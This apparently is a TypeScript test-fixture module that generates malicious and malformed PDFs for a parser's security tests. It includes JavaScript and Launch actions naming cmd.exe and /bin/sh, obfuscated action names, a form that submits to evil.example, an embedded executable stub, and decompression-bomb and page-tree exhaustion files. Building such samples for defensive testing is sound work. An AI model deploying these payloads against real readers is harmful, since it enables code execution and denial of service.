import { deflateSync } from 'node:zlib';
import { PDFDocument, PDFName, PDFString } from 'pdf-lib';
import { type Attack, damaged, type Sample } from './attack-images.ts';
import { fixture } from './fixtures.ts';

/** A plain PDF with a correct cross-reference table from its objects' bodies; object 1 is the catalogue. */
export function plainPdf(objects: readonly (string | Buffer)[], trailer = ''): Buffer {
  const parts: Buffer[] = [Buffer.from('%PDF-1.7\n%\xe2\xe3\xcf\xd3\n', 'latin1')];
  const offsets: number[] = [];
  let start = parts[0]?.length ?? 0;
  objects.forEach((body, index) => {
    offsets.push(start);
    const pieces = [`${index + 1} 0 obj\n`, body as string, '\nendobj\n'].map((piece) => Buffer.from(piece));
    parts.push(...pieces);
    start += pieces.reduce((sum, piece) => sum + piece.length, 0);
  });
  const entries = offsets.map((offset) => `${String(offset).padStart(10, '0')} 00000 n \n`).join('');
  const size = objects.length + 1;
  parts.push(
    Buffer.from(
      `xref\n0 ${size}\n0000000000 65535 f \n${entries}trailer\n<< /Size ${size} /Root 1 0 R ${trailer}>>\n`,
    ),
    Buffer.from(`startxref\n${start}\n%%EOF\n`),
  );
  return Buffer.concat(parts);
}

const onePage = [
  '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
  '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 99 99] >>',
];
const withAction = (action: string, ...more: string[]) =>
  plainPdf([`<< /Type /Catalog /Pages 2 0 R /OpenAction ${action} >>`, ...onePage, ...more]);

async function made(change: (document: PDFDocument) => unknown): Promise<Buffer> {
  const document = await PDFDocument.create();
  document.addPage();
  await change(document);
  return Buffer.from(await document.save());
}
const attach = (document: PDFDocument) =>
  document.attach(Buffer.from('MZ'), 'setup.exe', { mimeType: 'application/octet-stream' });
function scriptOfPage(document: PDFDocument): void {
  const opening = { S: 'JavaScript', JS: PDFString.of('app.alert(2)') };
  document.getPage(0).node.set(PDFName.of('AA'), document.context.obj({ O: opening }));
}
const acting = (name: string, action: string, ...more: string[]): Sample => ({
  name,
  make: () => withAction(action, ...more),
});

/** PDFs that can be opened and want to do something: taken in, flagged, never run. */
export const activePdfs: readonly Sample[] = [
  {
    name: 'a script in a compressed name tree',
    make: () => made((document) => document.addJavaScript('hello', 'app.alert(1)')),
  },
  { name: 'an attached program', make: () => made(attach) },
  { name: 'a script when its page opens', make: () => made(scriptOfPage) },
  acting('a script on opening', '<< /S /JavaScript /JS (app.alert\\(1\\)) >>'),
  acting('a script under an escaped name', '<< /S /J#61vaScript /J#53 (x) >>'),
  acting('a script in an object of its own', '4 0 R', '<< /S /JavaScript /JS (x) >>'),
  acting('a program to launch', '<< /S /Launch /F (cmd.exe) >>'),
  acting('a program under an escaped name', '<< /S /L#61unch /F (/bin/sh) >>'),
  acting('a form that sends itself', '<< /S /SubmitForm /F (http://evil.example/) >>'),
  acting('data that is imported', '<< /S /ImportData /F (x.fdf) >>'),
  acting('rich media', '4 0 R', '<< /Type /Annot /Subtype /RichMedia >>'),
];

/** Of a cross-reference stream: 1 is a place in the file, 2 an object stream and the place in it. */
export type Entry = [type: number, first: number, second: number];

/** A PDF whose cross-reference table is a stream (ISO 32000-1, 7.5.8); object 1 is the catalogue, 9 the table. */
export function streamedPdf(
  objects: ReadonlyMap<number, Buffer>,
  compressed: ReadonlyMap<number, Entry>,
  { table, trailer = '' }: { table?: Buffer; trailer?: string } = {},
): Buffer {
  const parts: Buffer[] = [Buffer.from('%PDF-1.7\n')];
  const length = () => parts.reduce((sum, part) => sum + part.length, 0);
  const entries = new Map<number, Entry>([[0, [0, 0, 255]]]);
  for (const [number, body] of objects) {
    entries.set(number, [1, length(), 0]);
    parts.push(Buffer.from(`${number} 0 obj\n`), body, Buffer.from('\nendobj\n'));
  }
  for (const [number, entry] of compressed) entries.set(number, entry);
  const start = length();
  const packed = [...entries.values()].map(([type, first, second]) => {
    const bytes = Buffer.from([type, 0, 0, 0, 0, second]);
    bytes.writeUInt32BE(first, 1);
    return bytes;
  });
  const data = table ?? deflateSync(Buffer.concat(packed));
  const numbers = [...entries.keys()];
  const size = table ? 33_000_000 : Math.max(...numbers) + 1;
  const index = table ? '' : `/Index [${numbers.map((number) => `${number} 1`).join(' ')}]`;
  const head = `/Type /XRef /Size ${size} ${index} /W [1 4 1] /Root 1 0 R /Filter /FlateDecode /Length ${data.length} ${trailer}`;
  parts.push(Buffer.from(`9 0 obj\n<< ${head} >>\nstream\n`), data);
  parts.push(Buffer.from(`\nendstream\nendobj\nstartxref\n${start}\n%%EOF\n`));
  return Buffer.concat(parts);
}

const catalogueOf = (pages: string) => Buffer.from(`<< /Type /Catalog /Pages ${pages} >>`);

/** Its page tree is in a compressed stream behind that many megabytes of blanks. */
function inflatingPdf(megabytes: number): Buffer {
  const blanks = Buffer.alloc(megabytes * 1024 * 1024, ' ');
  const packed = deflateSync(Buffer.concat([Buffer.from('2 0 '), blanks, Buffer.from('<< /Type /Pages >>')]));
  const head = `<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length ${packed.length} >>\nstream\n`;
  const stream = Buffer.concat([Buffer.from(head), packed, Buffer.from('\nendstream')]);
  return streamedPdf(
    new Map([
      [1, catalogueOf('2 0 R')],
      [3, stream],
    ]),
    new Map([[2, [2, 3, 0]]]),
  );
}

const hugeTablePdf = () =>
  streamedPdf(new Map([[1, catalogueOf('2 0 R')]]), new Map(), {
    table: deflateSync(Buffer.alloc(200_000_000)),
  });

const lease = () => fixture('documents/lease.pdf');
const catalogue = '<< /Type /Catalog /Pages 2 0 R >>';
const plain = (name: string, ...objects: string[]): Attack => damaged(name, () => plainPdf(objects));
const encryption = `<< /Filter /Standard /V 1 /R 2 /P -4 /O (${'o'.repeat(32)}) /U (${'u'.repeat(32)}) >>`;
const encrypted = '/Encrypt 4 0 R /ID [(0123456789abcdef) (0123456789abcdef)] ';

/** PDFs that cannot be opened or were made to exhaust a reader. */
export const damagedPdfs: readonly Attack[] = [
  damaged('a PDF head alone', () => Buffer.from('%PDF-1.7\n')),
  damaged('a PDF head before a web page', () => Buffer.from('%PDF-1.7\n<script>alert(1)</script>')),
  damaged('a PDF that lacks its end', () => lease().subarray(0, -120)),
  damaged('a PDF that lacks its second half', () => lease().subarray(0, lease().length >> 1)),
  plain('a PDF without pages', catalogue, '<< /Type /Pages /Kids [] /Count 0 >>'),
  plain('a PDF without a page tree', '<< /Type /Catalog >>'),
  plain('a page tree that holds itself', catalogue, '<< /Type /Pages /Kids [2 0 R] /Count 5 >>'),
  plain('a billion pages', catalogue, '<< /Type /Pages /Kids [] /Count 1000000000 >>'),
  plain('a million open brackets', catalogue, '['.repeat(1_000_000)),
  damaged('a password', () => plainPdf([catalogue, ...onePage, encryption], encrypted)),
  damaged('a page tree behind 400 MB of blanks in 0.4 MB', () => inflatingPdf(400)),
  damaged('a cross-reference table of 30 million entries', hugeTablePdf),
];

/** A PDF that costs a reader a quarter of a second and more for each thousand nodes: each page walks all of them. */
export function burningPdf(nodes = 60_000): Buffer {
  const empty = Array.from({ length: nodes }, () => '<< /Type /Pages /Kids [] /Parent 2 0 R >>');
  const kids = empty.map((_, index) => `${index + 4} 0 R`).join(' ');
  return plainPdf([
    '<< /Type /Catalog /Pages 2 0 R >>',
    `<< /Type /Pages /Kids [${kids} ${'3 0 R '.repeat(100)}] /Count 100 >>`,
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>',
    ...empty,
  ]);
}
